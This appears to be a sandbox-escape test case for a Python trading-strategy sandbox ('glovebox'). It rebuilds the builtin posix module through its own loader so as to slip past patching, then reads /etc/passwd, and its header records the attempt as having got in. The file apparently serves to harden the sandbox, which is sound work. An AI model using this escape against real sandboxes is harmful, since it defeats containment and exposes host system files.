# id: L41
# family: language
# goal: make the builtin posix module once more, unpatched, by its loader
# finding: PY103 PY105 PY306
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import posix


def attack(ctx, bar):
    spec = posix.__spec__
    made = posix.__loader__.create_module(spec)
    posix.__loader__.exec_module(made)
    return made.read(made.open("/etc/passwd", 0), 20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
